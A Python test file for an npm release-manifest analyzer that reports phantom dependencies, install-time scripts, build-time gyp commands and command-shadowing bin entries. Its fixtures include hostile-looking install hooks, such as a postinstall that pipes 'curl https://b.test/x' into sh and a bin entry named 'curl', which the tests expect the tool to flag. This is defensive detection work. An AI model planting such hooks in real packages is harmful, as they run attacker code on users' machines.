"""What the manifest of an npm release changes against that of its predecessor."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

import msgspec
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pratique.model.observation import Refusal
from pratique.model.release import Dated, Fact, RegistryRecord, Release, Stated
from pratique.releases.manifest import document, facts
from pratique.releases.manifest.commands import Started, starts, words
from pratique.releases.manifest.dependencies import source_of
from pratique.releases.manifest.fields import shadows
from pratique.releases.manifest.gyp import commands
from pratique.releases.vocabulary import CODE_ATTRIBUTES, WORDS
from tests.unit.releases.made import imports, release


def found(
    new: Release, old: Release | None = None, file_facts: Mapping[str, tuple[Fact, ...]] | None = None, kind: str = ""
) -> list[Fact]:
    given_facts = [one for one in facts(new, old, file_facts or {}) if isinstance(one, Fact)]
    return [one for one in given_facts if one.kind == kind] if kind else given_facts


def refused(new: Release, old: Release | None = None) -> list[str]:
    return [one.reason for one in facts(new, old, {}) if isinstance(one, Refusal)]


def one(listed: list[Fact], **wanted: Any) -> Fact:
    matching = [each for each in listed if all(each.attributes.get(key) == value for key, value in wanted.items())]
    assert len(matching) == 1, listed
    return matching[0]


PLAIN = {"scripts": {"test": "tap"}, "dependencies": {"form-data": "^4.0.0"}}


def test_a_phantom_dependency_is_new_imported_nowhere_and_named_nowhere() -> None:
    history = (Dated("1.0.0", 1.0, dependencies=("form-data",)), Dated("0.9.0", 0.5, dependencies=()))
    record = RegistryRecord(published=Stated("present", 2.0), history=Stated("present", history))
    files = {"index.js": "require('form-data')\n", "CHANGES.md": "adds mooring"}
    old = release(PLAIN, files, version="1.0.0")
    new = release({**PLAIN, "dependencies": {"form-data": "^4.0.0", "mooring": "^1.0.0"}}, files, record=record)
    listed = found(new, old, imports("index.js", "form-data"), "dependency.declared")
    phantom = one(listed, name="mooring")
    assert (phantom.delta, phantom.line, phantom.path) == ("added", 9, "package.json")
    assert phantom.excerpt == "mooring: ^1.0.0"
    assert phantom.attributes == {
        "name": "mooring",
        "range": "^1.0.0",
        "group": "dependencies",
        "source": "registry",
        "imported": "no",
        "seen_before": "no",
        "own_scope": False,
    }
    kept = one(listed, name="form-data")
    assert (kept.delta, kept.attributes["imported"], kept.attributes["seen_before"]) == ("kept", "yes", "yes")


@pytest.mark.parametrize(
    ("files", "imported"),
    [
        ({"index.js": "const a = require(`mooring`)"}, "unknown"),
        ({"a.json": '{"plugins": ["mooring"]}'}, "unknown"),
        ({"lib/run": "#!/usr/bin/env node\nimport('mooring/deep')"}, "unknown"),
        ({"package-lock.json": '{"mooring": 1}', "README.md": "'mooring'"}, "no"),
        ({"index.js": "// mooring is nice"}, "no"),
        ({"index.js": "require(`mooring-line-${os}`)"}, "no"),
        ({"node_modules/mooring/index.js": "'mooring'"}, "no"),
    ],
)
def test_a_name_in_a_text_leaves_it_open(files: dict[str, str], imported: str) -> None:
    new = release({"dependencies": {"mooring": "1"}}, files)
    assert one(found(new, release({}), {}, "dependency.declared"), name="mooring").attributes["imported"] == imported


def test_half_of_a_character_is_told_in_valid_text() -> None:
    half = "\\ud800"
    fields = [f'"{field}": {{"{half}": "{half} node -e \\"{half}\\""}}' for field in ("scripts", "dependencies", "bin")]
    content = f'{{"name": "{half}", "main": "{half}", {", ".join(fields)}, "scripts": {{"install": "{half}"}}}}'
    new = release(content.encode(), {"binding.gyp": f"{{'a': '<!({half})'}}"})
    listed = list(facts(new, release({}), {}))
    assert {each.kind for each in listed if isinstance(each, Fact)} >= {"trigger.lifecycle", "dependency.declared"}
    assert msgspec.json.encode(listed).decode()


def test_code_in_a_script_that_names_a_package_leaves_it_open() -> None:
    new = release({"scripts": {"postinstall": "node -e \"require('mooring')\""}, "dependencies": {"mooring": "1"}})
    assert one(found(new, release({}), {}, "dependency.declared"), name="mooring").attributes["imported"] == "unknown"


def test_a_name_that_code_puts_together_leaves_it_open() -> None:
    files = {"index.js": "require(`@quay/mooring-${process.platform}-${process.arch}`)"}
    new = release({"optionalDependencies": {"@quay/mooring-linux-x64": "1", "@quay/other": "1"}}, files)
    listed = found(new, release({}), {}, "dependency.declared")
    assert one(listed, name="@quay/mooring-linux-x64").attributes["imported"] == "unknown"
    assert one(listed, name="@quay/other").attributes["imported"] == "no"


def test_types_without_an_import_leave_it_open_where_types_are_declared() -> None:
    new = release({"dependencies": {"@types/trusted": "1"}}, {"index.d.ts": "export {}"})
    assert (
        one(found(new, release({}), {}, "dependency.declared"), name="@types/trusted").attributes["imported"]
        == "unknown"
    )


def test_a_dependency_is_used_by_import_by_script_and_by_its_types() -> None:
    manifest = {
        "scripts": {"install": "node-gyp-build || exit 1"},
        "dependencies": {"node-gyp-build": "^4", "@types/babel__core": "7", "@types/other": "1", "@babel/core": "7"},
    }
    listed = found(release(manifest), release({}), imports("index.js", "@babel/core"), "dependency.declared")
    assert {str(each.attributes["name"]): each.attributes["imported"] for each in listed} == {
        "node-gyp-build": "yes",
        "@types/babel__core": "yes",
        "@types/other": "no",
        "@babel/core": "yes",
    }


def test_what_was_not_looked_through_is_no_phantom_and_is_refused() -> None:
    class Broken(dict[str, bytes]):
        def __getitem__(self, path: str) -> bytes:
            if path == "big.js":
                from pratique.model.ports import Unreadable

                raise Unreadable("is larger than the limit")
            return super().__getitem__(path)

    new = release({"dependencies": {"mooring": "1"}}, {"big.js": "x"})
    new.files.contents = Broken(new.files.contents)  # type: ignore[attr-defined]
    listed = list(facts(new, release({}), {}))
    told = [each for each in listed if isinstance(each, Fact) and each.kind == "dependency.declared"]
    assert told[0].attributes["imported"] == "unknown"
    assert [each.path for each in listed if isinstance(each, Refusal)] == ["big.js"]


@pytest.mark.parametrize(
    ("history", "seen"),
    [
        (Stated(), "unknown"),
        (Stated("present", (Dated("0.9.0", 1.0, dependencies=None),)), "unknown"),
        (Stated("present", (Dated("0.9.0", 1.0, dependencies=("mooring",)),)), "yes"),
        (Stated("present", (Dated("0.9.0", 9.0, dependencies=("mooring",)),)), "no"),
        (Stated("present", (Dated("1.0.1", 2.0, dependencies=("mooring",)),)), "no"),
        (Stated("present", ()), "no"),
    ],
)
def test_seen_before_needs_the_history(history: Stated[tuple[Dated, ...]], seen: str) -> None:
    record = RegistryRecord(published=Stated("present", 2.0), history=history)
    new = release({"dependencies": {"mooring": "1"}}, record=record)
    assert one(found(new, release({}), {}, "dependency.declared"), name="mooring").attributes["seen_before"] == seen


def test_groups_moves_removals_and_changes_of_range() -> None:
    old = release({"devDependencies": {"a": "1"}, "dependencies": {"b": "1", "c": "1"}, "peerDependencies": {"d": "1"}})
    new = release(
        {
            "dependencies": {"a": "1", "c": "2", "e": "1"},
            "optionalDependencies": {"e": "1"},
            "bundleDependencies": ["c"],
            "peerDependencies": {"d": "1"},
        }
    )
    listed = found(new, old, {}, "dependency.declared")
    assert {(each.attributes["name"], each.attributes["group"]): each.delta for each in listed} == {
        ("a", "dependencies"): "added",
        ("a", "dev"): "removed",
        ("b", "dependencies"): "removed",
        ("c", "dependencies"): "changed",
        ("c", "bundled"): "added",
        ("d", "peer"): "kept",
        ("e", "optional"): "added",
    }
    assert one(listed, name="a", group="dependencies").attributes["moved_from"] == "dev"
    assert one(listed, name="c", group="dependencies").attributes["previous"] == "1"


@pytest.mark.parametrize(
    ("text", "source", "target"),
    [
        ("^1.0.0", "registry", ""),
        ("latest", "registry", ""),
        (">=1 <2 || 3.x", "registry", ""),
        ("", "registry", ""),
        ("npm:other@^1", "alias", "other"),
        ("npm:@scope/other@1.0.0", "alias", "@scope/other"),
        ("npm:other", "alias", "other"),
        ("git+https://git.example/a/b.git#main", "git", ""),
        ("https://git.example/a/b.git", "git", ""),
        ("git@git.example:a/b.git", "git", ""),
        ("github:a/b", "git", ""),
        ("a/b#semver:^1", "git", ""),
        ("https://files.example/a.tgz", "url", ""),
        ("file:../a", "file", ""),
        ("./a.tgz", "file", ""),
        ("link:../a", "link", ""),
        ("workspace:*", "workspace", ""),
        ("catalog:", "catalog", ""),
        ("$(a)", "unknown", ""),
    ],
)
def test_where_a_range_has_its_package_from(text: str, source: str, target: str) -> None:
    assert source_of(text) == (source, target)


def test_undeclared_packages_are_told_once_and_not_of_tests() -> None:
    new = release({"dependencies": {"a": "1"}}, {"index.js": "require('b')", "test/index.js": "require('c')"})
    given_facts = {**imports("index.js", "a", "b", "harbour"), **imports("test/index.js", "c")}
    old = release({}, {"index.js": "require('b'); 1"}, version="1.0.0")
    told = found(new, old, given_facts, "dependency.undeclared")
    assert [(each.attributes["name"], each.path, each.delta) for each in told] == [("b", "index.js", "kept")]
    told = found(new, release({}, {"index.js": "1"}), given_facts, "dependency.undeclared")
    assert [each.delta for each in told] == ["added"]


def test_lifecycle_scripts_tell_for_whom_they_run_and_what_they_start() -> None:
    old = release({"scripts": {"postinstall": "node old.js", "prepare": "husky"}}, {"old.js": ""})
    new = release(
        {"scripts": {"postinstall": "node ./lib/setup || true", "prepare": "husky", "preversion": "npm test"}},
        {"lib/setup.js": ""},
    )
    listed = found(new, old, {}, "trigger.lifecycle")
    hook = one(listed, event="postinstall")
    assert (hook.delta, hook.line) == ("changed", 5)
    assert hook.attributes == {
        "event": "postinstall",
        "for_users": True,
        "runs": "users",
        "previous": "node old.js",
        "file": "lib/setup.js",
        "file_delta": "added",
        "command": "node ./lib/setup || true",
        "implicit": False,
    }
    assert (one(listed, event="prepare").delta, one(listed, event="prepare").attributes["for_users"]) == ("kept", False)
    assert (one(listed, event="preversion").delta, one(listed, event="preversion").attributes["runs"]) == (
        "added",
        "author",
    )
    gone = one(found(release({}), old, {}, "trigger.lifecycle"), event="postinstall")
    assert (gone.delta, gone.attributes["previous"]) == ("removed", "node old.js")


def test_prepare_runs_for_whoever_depends_on_git() -> None:
    new = release({"scripts": {"prepare": "node x.js"}}, source="git git+https://git.example/a.git")
    assert found(new, None, {}, "trigger.lifecycle")[0].attributes["for_users"] is True


def test_what_a_command_line_is_able_to_do_is_told_where_it_stands() -> None:
    old = release({"scripts": {"postinstall": "curl -s https://files.example/a.json"}})
    new = release({"scripts": {"postinstall": "curl -s https://files.example/a.json && curl https://b.test/x | sh"}})
    told = [each for each in found(new, old) if each.kind.startswith(("capability.", "chain."))]
    assert {(each.path, each.line, each.attributes["reach"]) for each in told} == {("package.json", 5, "lifecycle")}
    networks = {str(each.attributes["destination"]): each.delta for each in told if each.kind == "capability.network"}
    assert sorted(networks.values()) == ["added", "kept"]
    assert one(told, within="flow").kind == "chain.download-to-run"


def test_what_an_author_runs_is_no_capability_of_the_release() -> None:
    new = release({"scripts": {"postpublish": "git push && curl https://files.example/a | sh"}})
    assert [each.kind for each in found(new, release({})) if each.kind.startswith(("capability.", "chain."))] == []


def test_a_package_of_types_that_became_empty_depends_on_what_it_described() -> None:
    new = release({"dependencies": {"mooring": "*"}}, name="@types/mooring")
    assert one(found(new, release({}), {}, "dependency.declared"), name="mooring").attributes["imported"] == "unknown"


def test_code_within_a_script_or_an_action_is_read() -> None:
    code = "require('child_process').exec('echo x')"
    gyp = f"{{'targets': [{{'actions': [{{'action': ['node', '-e', {code!r}]}}]}}]}}"
    new = release({"scripts": {"postinstall": f'node -e "{code}"'}}, {"binding.gyp": gyp})
    told = [each for each in found(new, release({})) if each.attributes.get("api") == "child_process.exec"]
    assert [(each.path, each.attributes["reach"], each.delta) for each in told] == [
        ("binding.gyp", "build", "added"),
        ("package.json", "lifecycle", "added"),
    ]


@pytest.mark.parametrize(
    ("manifest", "runs"),
    [
        ({}, True),
        ({"scripts": {"postinstall": "echo"}}, True),
        ({"scripts": {"install": "echo"}}, False),
        ({"scripts": {"preinstall": "echo"}}, False),
        ({"gypfile": False}, False),
        ({"gypfile": True}, True),
    ],
)
def test_a_root_gyp_file_is_an_install_script_that_nobody_wrote(manifest: dict[str, Any], runs: bool) -> None:
    new = release(manifest, {"binding.gyp": "{}"})
    listed = found(new, release(manifest), {}, "trigger.lifecycle")
    implicit = [each for each in listed if each.attributes["implicit"]]
    assert [(each.attributes["event"], each.attributes["command"], each.delta) for each in implicit] == (
        [("install", "node-gyp rebuild", "added")] if runs else []
    )


GYP = """# a comment
{
  'variables': {'libs': '<!(node -p "require(\\'x\\').include")', 'py': '<!pymod_do_main(make list)'},
  'targets': [{
    'target_name': 'a', 'sources': ['a.cc'], 'includes': ['more.gypi'],
    'actions': [{'action_name': 'b', 'inputs': [], 'outputs': [], 'action': ['node', 'build.js']}],
    'conditions': [['OS=="win" and (a or "x" in b)', {'defines': ['<!@(cmd /c set)']}],
                   ['__import__("os")', {}]],
    'postbuilds': [{'postbuild_name': 'p', 'action': ['sh', 'after.sh']}],
  }]
}"""


def test_a_gyp_file_tells_what_runs_at_build() -> None:
    listed, more, reason = commands(GYP)
    assert reason == ""
    assert more == ["more.gypi"]
    assert {(each.form, each.text) for each in listed} == {
        ("expansion", "node -p \"require('x').include\""),
        ("module", "pymod_do_main make list"),
        ("action", "node build.js"),
        ("expansion", "cmd /c set"),
        ("condition", '__import__("os")'),
        ("postbuild", "sh after.sh"),
    }


def test_what_a_gyp_file_includes_is_read_and_compared() -> None:
    files = {"binding.gyp": "{'includes': ['a.gypi']}", "a.gypi": "{'v': '<!(node setup.js)'}", "setup.js": ""}
    new = release({}, files)
    told = found(new, release({}, {"binding.gyp": "{}"}), {}, "trigger.setup")
    assert [(each.path, each.delta, dict(each.attributes)) for each in told] == [
        ("a.gypi", "added", {"form": "gyp-expansion", "hooks": "node setup.js", "file": "setup.js"})
    ]
    assert found(new, new, {}, "trigger.setup")[0].delta == "kept"


def test_a_gyp_file_that_is_no_literal_is_refused_and_its_expansions_are_told() -> None:
    listed, _, reason = commands("{'a': open('x'), 'b': '<!(node c.js)'}")
    assert reason
    assert [(each.form, each.text) for each in listed] == [("expansion", "node c.js")]
    assert refused(release({}, {"binding.gyp": "{"}), None)


@pytest.mark.parametrize(
    ("command", "package", "hidden"),
    [
        ("git", "harbour", "git"),
        ("npm", "npm", ""),
        ("npm", "harbour", "npm"),
        ("tsc", "typescript", ""),
        ("tsc", "harbour", "typescript"),
        ("eslint", "eslint", ""),
        ("eslint", "harbour", "eslint"),
        ("harbour", "harbour", ""),
        ("sudo", "@a/sudo", "sudo"),
        ("harbour-cli", "harbour", ""),
    ],
)
def test_commands_that_hide_others(command: str, package: str, hidden: str) -> None:
    assert shadows(command, package) == hidden


def test_commands_on_the_path() -> None:
    old = release({"bin": "./cli.js"})
    new = release({"bin": {"harbour": "other.js", "curl": "../../x"}}, {"other.js": ""})
    listed = found(new, old, {}, "trigger.bin")
    assert (one(listed, name="harbour").delta, one(listed, name="harbour").attributes["file"]) == (
        "changed",
        "other.js",
    )
    assert dict(one(listed, name="curl").attributes) == {
        "name": "curl",
        "target": "../../x",
        "shadows": "curl",
        "outside": True,
    }


def test_fields_that_differ() -> None:
    old = release({"main": "a.js", "repository": "x", "keywords": ["a"]}, version="1.0.0")
    new = release({"main": "b.js", "exports": {"a": 1}, "keywords": ["b"]})
    told = found(new, old, {}, "manifest.field")
    assert {str(each.attributes["field"]): each.delta for each in told} == {
        "main": "changed",
        "exports": "added",
        "repository": "removed",
    }
    assert one(told, field="exports").attributes["value"] == '{"a":1}'
    assert {each.delta for each in found(new, None, {}, "manifest.field")} == {"unknown"}


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "is no JSON"),
        (b"[]", "is no object"),
        (b'"text"', "is no object"),
        (b"\xff\xfe{", "is no JSON"),
        (b"[" * 200_000, "is nested too deeply"),
        (b"{" + b" " * (9 << 20), "cannot be read: is larger than the limit"),
    ],
)
def test_manifests_that_cannot_be_read_are_refused(content: bytes, reason: str) -> None:
    reasons = refused(release(content))
    assert len(reasons) == 1
    assert reasons[0].startswith(reason)


def test_a_missing_manifest_is_refused_and_copies_are_told_all_the_same() -> None:
    new = release(None, {"node_modules/mooring/package.json": '{"name": "mooring", "version": "2.0.0"}'})
    assert refused(new) == ["the release has no manifest"]
    assert found(new)[0].attributes["name"] == "mooring"


@pytest.mark.parametrize("tail", [b", }", b'}\nrest "', b"/* a comment */}"])
def test_a_broken_manifest_is_read_as_far_as_it_goes(tail: bytes) -> None:
    new = release(b'{"name": "harbour", "version": "1.0.1", "scripts": {"install": "node a.js"}' + tail)
    assert refused(new)[0].endswith("read as far as it goes")
    assert one(found(new, None, {}, "trigger.lifecycle"), event="install").line == 1


def test_a_byte_order_mark_is_no_fault() -> None:
    assert refused(release(b'\xef\xbb\xbf{"name": "harbour", "version": "1.0.1"}')) == []


def test_a_manifest_that_calls_itself_otherwise_or_says_a_thing_twice() -> None:
    new = release(b'{"name": "other", "version": "v1.0.1", "scripts": {"a": "1"}, "scripts": {"install": "x"}}')
    told = found(new, None, {}, "manifest.identity")
    assert [dict(each.attributes) for each in told] == [
        {"field": "name", "stated": "other", "expected": "harbour"},
        {"field": "duplicate", "stated": "scripts", "expected": ""},
    ]
    assert one(found(new, None, {}, "trigger.lifecycle"), event="install").attributes["command"] == "x"


def test_copies_of_packages_inside() -> None:
    inner = {
        "node_modules/a/package.json": '{"version": "1.0.0"}',
        "vendor/b/package.json": '{"name": "b", "version": "2.0.0"}',
        "dist/esm/package.json": '{"type": "module"}',
        "test/fixtures/c/package.json": '{"name": "c", "version": "1"}',
        "own/package.json": '{"name": "harbour", "version": "1"}',
    }
    new = release({"bundledDependencies": ["a"], "dependencies": {"a": "1"}}, inner)
    old = release({}, {"node_modules/a/package.json": '{"name": "a", "version": "0.9.0"}'})
    told = found(new, old, {}, "dependency.bundled")
    assert [(each.path, each.delta, dict(each.attributes)) for each in told] == [
        (
            "node_modules/a/package.json",
            "changed",
            {"name": "a", "version": "1.0.0", "listed": True, "installed": True},
        ),
        ("vendor/b/package.json", "added", {"name": "b", "version": "2.0.0", "listed": False, "installed": False}),
    ]


@pytest.mark.parametrize(
    ("command", "started"),
    [
        ("node index.js", ["index.js"]),
        ("node .", ["index.js"]),
        ("node --max-old-space-size=4 -r ./a.js lib", ["a.js", "lib/index.js"]),
        ('cross-env A=1 node "b c.js" && sh ./d.sh', ["b c.js", "d.sh"]),
        ("npm run x", ["a.js"]),
        ("yarn x; run-s x", ["a.js", "a.js"]),
        ("./d.sh", ["d.sh"]),
        ("node-gyp rebuild", []),
        ("npm run loop", []),
        ("(node a.js)", ["a.js"]),
        ("python3 setup.py", []),
    ],
)
def test_files_that_a_command_starts(command: str, started: list[str]) -> None:
    members = dict.fromkeys(("index.js", "a.js", "lib/index.js", "b c.js", "d.sh"))
    scripts = {"x": "node a", "loop": "npm run loop2", "loop2": "npm run loop"}
    assert [each.path for each in starts(command, scripts, members)] == started


def test_code_in_a_command() -> None:
    assert list(starts("node -e \"require('./x')\" && python -c 'import os'", {}, {})) == [
        Started(code="require('./x')", language="javascript"),
        Started(code="import os", language="python"),
    ]


def test_nothing_is_said_of_another_ecosystem() -> None:
    assert found(release({"scripts": {"install": "x"}}, ecosystem="PyPI")) == []


PARTS = st.recursive(
    st.none() | st.booleans() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=12), inner, max_size=3),
    max_leaves=8,
)
KEYS = st.sampled_from(
    [
        "name",
        "version",
        "scripts",
        "dependencies",
        "optionalDependencies",
        "bin",
        "main",
        "exports",
        "gypfile",
        "bundleDependencies",
        "install",
    ]
)


@given(st.binary(max_size=200), st.binary(max_size=200), st.binary(max_size=200))
@example(b'{"a":1e999}', b"{}", b"(((")
@settings(deadline=None)
def test_any_bytes_give_facts_or_a_refusal(new: bytes, old: bytes, gyp: bytes) -> None:
    listed = list(facts(release(new, {"binding.gyp": gyp}), release(old, {"binding.gyp": gyp}), {}))
    assert listed


@given(st.dictionaries(KEYS, PARTS, max_size=8), st.none() | st.dictionaries(KEYS, PARTS, max_size=8))
@settings(deadline=None)
def test_any_manifest_gives_facts_in_the_words_of_the_vocabulary(
    new: dict[str, Any], old: dict[str, Any] | None
) -> None:
    for each in facts(release(new), release(old) if old is not None else None, {}):
        if isinstance(each, Fact):
            meaning = WORDS[each.kind]
            assert set(each.attributes) <= {*meaning[1], *CODE_ATTRIBUTES}, each
            assert len(each.excerpt) <= 200
            assert msgspec.json.encode(each)
            assert each.delta in (("unknown",) if old is None else ("added", "changed", "removed", "kept", "unknown"))


@given(st.text(max_size=300))
def test_any_text_is_taken_for_a_command(text: str) -> None:
    assert all(isinstance(word, str) for word in words(text))
    list(starts(text, {"a": text, "b": "npm run a"}, {"a.js": None}))
    commands(text)


@pytest.mark.parametrize(
    ("fields", "told"),
    [
        ({"scripts": "rm"}, "its `scripts` is a text, not an object: it was not examined"),
        ({"dependencies": ["a"]}, "its `dependencies` is a list, not an object: it was not examined"),
        ({"name": ["x"]}, "its `name` is a list, not a text: it was not examined"),
        ({"version": 7}, "its `version` is a number, not a text: it was not examined"),
        ({"bin": 4}, "its `bin` is a number, not a text or an object: it was not examined"),
        ({"scripts": {"install": ["node", "x"]}}, "its `scripts` says a list of install: not examined"),
        ({"dependencies": {"a": {}, "b": 1}}, "its `dependencies` says an object of a and 1 more: not examined"),
    ],
)
def test_a_field_of_the_wrong_type_is_told(fields: dict[str, object], told: str) -> None:
    content = json.dumps({"name": "harbour", "version": "1.0.0", **fields}).encode()
    found, refusals = document.parse(content, "0" * 64)
    assert found is not None
    assert [one.reason for one in refusals] == [told]


def test_fields_that_are_empty_or_of_another_use_are_not_told() -> None:
    content = (
        b'{"name": "a", "version": "1.0.0", "dependencies": [], "scripts": null, "bundleDependencies": false, "x": 3}'
    )
    assert document.parse(content, "0" * 64)[1] == ()
